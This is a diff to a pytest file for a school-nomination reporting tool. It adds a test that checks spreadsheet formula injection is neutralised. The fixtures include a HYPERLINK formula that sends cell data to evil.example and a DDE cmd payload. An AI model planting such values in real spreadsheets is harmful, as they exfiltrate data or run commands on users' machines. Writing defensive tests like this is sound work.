@@ -2,9 +2,10 @@
 
 from __future__ import annotations
 
+import openpyxl
 import pytest
 
-from helpers import AS_OF, run_minhbach, write
+from helpers import AS_OF, run_minhbach, write, xlsx_cells
 from minhbach.reports import ReportPathError, write_build_reports
 from minhbach.settings import Settings
 
@@ -95,3 +96,60 @@ def test_build_reports_are_the_three_and_deterministic(district, load, tmp_path)
         write_build_reports(
             records, Settings(), tmp_path / "output/r", AS_OF, output_dir=tmp_path / "output"
         )
+
+
+# Values a hostile or careless hand may put in a record: each would be a live formula (or an
+# error cell) if written as it comes.
+HOSTILE = {
+    "student": '=HYPERLINK("http://evil.example/?q="&B7,"Bấm vào đây")',
+    "guardian": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "school": "+1+2 Trường lạ",
+    "donor": "-2+3 Công ty",
+    "error": "#REF!",
+}
+
+
+def _poison(district):
+    def replace(relative: str, old: str, new: str) -> None:
+        path = district / relative
+        text = path.read_text(encoding="utf-8")
+        assert old in text
+        path.write_text(text.replace(old, new), encoding="utf-8")
+
+    quoted = {key: "'" + value.replace("'", "''") + "'" for key, value in HOSTILE.items()}
+    replace("nominations/th-an/dx-an1.yaml", "Nguyễn Văn An", quoted["student"])
+    replace("nominations/th-an/dx-an1.yaml", "Trần Thị Mai", quoted["guardian"])
+    replace("schools/th-an.yaml", "Trường Tiểu học An Phú", quoted["school"])
+    replace("donors/cong-ty-sao.yaml", "Công ty Sao Mai", quoted["donor"])
+    replace("schools/th-binh.yaml", "Trường Tiểu học Bình Lợi", quoted["error"])
+
+
+def test_values_that_look_like_formulas_are_written_as_text(district, tmp_path):
+    """A name starting with ``=`` passes validation; the office's spreadsheets must show it as
+    the text it is, never run it (issue 15: ``=HYPERLINK(…)`` became a working link)."""
+    _poison(district)
+    validation = run_minhbach("validate", "--records", str(district), *DAY)
+    assert validation.returncode == 0, validation.stdout  # valid data: the writer must cope
+    for kind in ("lists", "reconcile"):
+        done = run_minhbach("report", kind, "--records", str(district), *DAY, cwd=tmp_path)
+        assert done.returncode == 0, done.stderr
+    books = sorted((tmp_path / "reports").rglob("*.xlsx"))
+    assert len(books) == 5  # the office list, three schools, the reconciliation
+    cells = [cell for book in books for cell in xlsx_cells(book)]
+    assert not [cell for cell in cells if cell.formula]
+    assert not [cell for cell in cells if cell.type in ("e", "str")]  # no error, no formula result
+    texts = [cell.text for cell in cells]
+    for value in HOSTILE.values():
+        written = [c for c in cells if value in (c.text or "")]
+        assert written, value
+        assert {c.type for c in written} <= {"inlineStr", "s"}, (value, written)
+    assert f"{HOSTILE['guardian']} (mẹ)" in texts  # the list's "received for them" column
+    # Numbers stay numbers: the running number, quantities and money.
+    numbers = {(c.text, c.type) for c in cells if c.type == "n" and c.text is not None}
+    assert ("1", "n") in numbers  # STT
+    assert ("10000000", "n") in numbers  # cash received, đồng
+    # Excel keeps such a cell as text even when someone edits it (the quote prefix).
+    sheet = openpyxl.load_workbook(tmp_path / "reports/danh-sach/th-an.xlsx").active
+    student = next(c for row in sheet.iter_rows() for c in row if c.value == HOSTILE["student"])
+    assert student.quotePrefix
+    assert not next(c for row in sheet.iter_rows() for c in row if c.value == "5A").quotePrefix
